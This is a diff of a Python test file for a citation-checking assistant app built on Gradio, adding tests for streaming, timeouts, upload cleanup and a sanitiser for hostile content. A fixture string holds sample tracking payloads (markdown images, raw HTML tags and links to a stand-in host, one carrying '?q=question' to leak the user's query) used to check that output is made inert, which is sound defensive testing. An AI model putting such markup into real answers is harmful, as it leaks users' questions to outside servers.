@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pytest
+
 from assistant import ui_handlers as h
 from assistant.answering import Conversation
 from assistant.core import Assistant
@@ -86,8 +88,6 @@ def test_check_view_statuses_in_words(real_assistant: Assistant, tmp_path) -> No
 
 
 def test_check_view_needs_text_or_a_file(fake_assistant: Assistant, tmp_path) -> None:  # type: ignore[no-untyped-def]
-    import pytest
-
     from assistant.errors import BadInput
 
     with pytest.raises(BadInput, match="Paste a draft or upload a file"):
@@ -109,7 +109,6 @@ def test_all_named_endpoints(app_url: str) -> None:
 
 
 def test_endpoint_errors_are_sentences(app_url: str) -> None:
-    import pytest
     from gradio_client import Client
 
     client = Client(app_url, verbose=False, download_files=False)
@@ -122,16 +121,19 @@ def test_chat_stream_shows_partial_text_then_the_checked_answer(real_assistant: 
 
     from assistant.llm import LangChainBackend
 
-    reply = "Banks act on sextortion [cta.private_sector.2.c]."
+    reply = ("Banks act on sextortion [cta.private_sector.2.c]. Governments must act [cta.government.9.z]. "
+             "So must Gοvernment 9（z） and CTA 9.z. Done.")
     backend = LangChainBackend(FakeListChatModel(responses=[reply]), "fake")
     served = Assistant(real_assistant.settings, embedder=real_assistant.embedder,
                        store=real_assistant.store, backend=backend)
     steps = list(h.chat_stream(served, "What must payment providers do?", [], "", None))
-    assert len(steps) > 2  # the model's text arrived in pieces
-    assert steps[0][0][1]["content"].endswith(" …")
+    assert len(steps) > 2  # the model's text arrived in pieces, shown sentence by sentence
+    assert steps[0][0][1]["content"] == "Banks act on sextortion [Private sector 2(c)]. …"
+    shown = [step[0][1]["content"] for step in steps]
+    assert not any(mark in text for text in shown for mark in ("9.z", "9(z)", "9（z）"))
     final, panel, _ = steps[-1]
-    assert final[1]["content"] == ("Banks act on sextortion "
-                                   "[Private sector 2(c)](#src-cta-private_sector-2-c).")
+    assert final[1]["content"].startswith("Banks act on sextortion "
+                                          "[Private sector 2(c)](#src-cta-private_sector-2-c).")
     assert 'id="src-cta-private_sector-2-c"' in panel
 
 
@@ -157,3 +159,157 @@ def test_app_on_a_busy_port_says_so(real_index) -> None:  # type: ignore[no-unty
     assert done.returncode == 1
     assert done.stderr == (f"Error: cannot serve at 127.0.0.1:{port} (address in use); "
                            "set ASSISTANT_PORT (or ASSISTANT_HOST) to a free one.\n")
+
+
+# Hostile content: tracking images and HTML, from a user, a document or a model (issue 17).
+OUTSIDE = "http://tracker.invalid"
+HOSTILE = (f"Look ![t]({OUTSIDE}/track.png) and ![q]({OUTSIDE}/leak.png?q=question) "
+           f'<img src="{OUTSIDE}/raw.png"> <b>bold</b> <a href="{OUTSIDE}/x">link</a> '
+           f"<{OUTSIDE}/auto> {OUTSIDE}/bare www.tracker.invalid [ref]\n[ref]: {OUTSIDE}/def.png\n"
+           f"$$\\href{{{OUTSIDE}}}{{x}}$$")
+
+
+def assert_inert(markdown: str) -> None:
+    """Nothing left that a Markdown renderer would turn into a fetch, a tag or an outside link."""
+    import re
+
+    assert "<" not in markdown
+    assert re.search(r"(?<!\\)!\[", markdown) is None  # no image
+    assert re.search(r"(?<!\\)\]\((?!#)", markdown) is None  # no link out of the page
+    assert re.search(r"(?i)(https?|www)(:|\.)", markdown) is None  # no bare-URL autolink
+    assert re.search(r"(?m)^\s*(?<!\\)\[[^\]\n]*\]:", markdown) is None  # no link definition
+
+
+def test_escape_md_and_neutralise_leave_nothing_that_fetches() -> None:
+    from assistant.ui_safe import escape_md, neutralise
+
+    for make in (escape_md, neutralise):
+        assert_inert(make(HOSTILE))
+        assert_inert(neutralise(make(HOSTILE)))
+    assert neutralise(neutralise(HOSTILE)) == neutralise(HOSTILE)  # a second pass changes nothing
+    kept = neutralise("# Heading\n\n- **bold** [Government 3(b)](#src-cta-government-3-b)\n> quote")
+    assert "[Government 3(b)](#src-cta-government-3-b)" in kept and kept.startswith("# Heading")
+    assert "> quote" in kept
+
+
+def test_a_served_models_hostile_answer_is_inert(real_assistant: Assistant) -> None:
+    from langchain_core.language_models.fake_chat_models import FakeListChatModel
+
+    from assistant.llm import LangChainBackend
+
+    reply = f"Banks act on sextortion [cta.private_sector.2.c]. {HOSTILE}"
+    backend = LangChainBackend(FakeListChatModel(responses=[reply] * 3), "fake")
+    served = Assistant(real_assistant.settings, embedder=real_assistant.embedder,
+                       store=real_assistant.store, backend=backend)
+    hostile_history = [{"role": "user", "content": HOSTILE}, {"role": "assistant", "content": HOSTILE}]
+    for step in h.chat_stream(served, f"What must payment providers do? {HOSTILE}", hostile_history, "",
+                              None):
+        for message in step[0]:
+            assert_inert(message["content"])
+        assert "<img" not in step[1] and "<a " not in step[1] and "<b>" not in step[1]
+
+
+def test_hostile_draft_and_profile_are_inert(fake_assistant: Assistant, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    draft = f"Governments pledge to criminalise AI-generated abuse (Gov 3b). {HOSTILE}\n{HOSTILE} (PS 2c)."
+    summary, _rows, report, _path = h.check_view(fake_assistant, draft, None, tmp_path)
+    assert_inert(summary)
+    assert_inert(report)
+    summary, _ = h.applicable_view(fake_assistant, f"A bank {HOSTILE}", "")
+    assert_inert(summary)
+    outline, _, _ = h.plan_view(fake_assistant, f"A bank {HOSTILE}", "", tmp_path / "plan")
+    assert_inert(outline)
+
+
+def test_sources_panel_names_a_users_document(fake_assistant: Assistant) -> None:
+    from assistant.clauses import Clause
+
+    doc = Clause(id="doc.our-policy.scope", label="Our policy: Scope", text="We report every case.",
+                 source="our-policy.md", kind="document", context="Scope")
+    card = h.source_card(doc)
+    assert "From your document <cite>our-policy.md</cite>" in card and "your document" in card
+    mnr = fake_assistant.corpus.by_id()["mnr.12"]
+    assert mnr.source and h.source_card(mnr).count(mnr.source.split(",")[0]) >= 1
+
+
+def test_a_job_past_its_time_limit_is_a_sentence() -> None:
+    import time
+
+    import gradio as gr
+
+    from assistant.ui_jobs import Jobs
+
+    jobs = Jobs(seconds=0.5, workers=2)
+    slow = jobs.guard(lambda text: time.sleep(2) or text)
+    started = time.monotonic()
+    with pytest.raises(gr.Error, match=r"took longer than 0\.5 seconds"):
+        slow("x")
+    assert time.monotonic() - started < 1.5
+    assert jobs.guard(lambda text: text.upper())("ok") == "OK"  # the pool still serves
+    with pytest.raises(gr.Error, match="Something went wrong \\(ZeroDivisionError\\)"):
+        jobs.guard(lambda text: 1 / 0)("x")
+
+
+def test_a_slow_job_does_not_hold_the_others(real_index, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    """While one check runs past its limit, /status, /config and another user's job answer fast."""
+    import json
+    import threading
+    import time
+    import urllib.request
+
+    from gradio_client import Client
+
+    from .ui_server import running_app
+
+    env = {"ASSISTANT_UI_JOB_SECONDS": "3", "ASSISTANT_TEST_SLOW_CHECK": "20"}
+    with running_app(real_index, tmp_path / "app.log", extra_env=env, slow_check=True) as url:
+        def get(path: str) -> tuple[float, bytes]:
+            started = time.monotonic()
+            with urllib.request.urlopen(url + path, timeout=10) as response:
+                return time.monotonic() - started, response.read()
+
+        errors: list[str] = []
+
+        def slow_user() -> None:
+            try:
+                Client(url, verbose=False, download_files=False).predict("a draft", api_name="/check")
+            except Exception as exc:
+                errors.append(str(exc))
+
+        other = Client(url, verbose=False, download_files=False)
+        other.predict("A bank", api_name="/applicable")  # warm: the model is loaded
+        started = time.monotonic()
+        thread = threading.Thread(target=slow_user)
+        thread.start()
+        while json.loads(get("status")[1])["jobs_running"] == 0:
+            assert time.monotonic() - started < 30
+            time.sleep(0.05)
+        assert get("status")[0] < 1 and get("config")[0] < 2
+        asked = time.monotonic()
+        assert other.predict("A mobile money company", api_name="/applicable")["pledges"]
+        assert time.monotonic() - asked < 5, "another user's job waited for the slow one"
+        assert json.loads(get("status")[1])["jobs_running"] == 1  # the slow one is still running
+        thread.join(30)
+        assert errors and "took longer than 3 seconds" in errors[0]
+        assert time.monotonic() - started < 12
+
+
+def test_the_check_tab_deletes_the_upload_and_its_job_folder(fake_assistant: Assistant) -> None:
+    from pathlib import Path
+
+    from assistant import ui, ui_temp
+
+    def check(draft: str, path: str) -> tuple[str, list[list[str]], str, str]:
+        return ui.check_job(fake_assistant, draft, path)
+
+    upload = ui_temp.gradio_folder() / "0123abcd" / "Zephyrine draft.md"
+    upload.parent.mkdir(parents=True)
+    upload.write_text("Governments pledge to criminalise AI-generated abuse (Gov 3b).\n", encoding="utf-8")
+    summary, rows, _report, report_path = check("", str(upload))
+    assert rows and "1 citations checked" in summary.replace("citation ", "citations ")
+    assert not upload.parent.exists()  # the user's draft is gone once read
+    assert list((ui_temp.server_folder() / "jobs").iterdir()) == []  # so is the job's folder
+    assert ui_temp.inside(Path(report_path), ui_temp.gradio_folder())  # the download copy
+    from assistant.errors import BadInput
+
+    with pytest.raises(BadInput, match="upload it again"):
+        check("", str(upload))
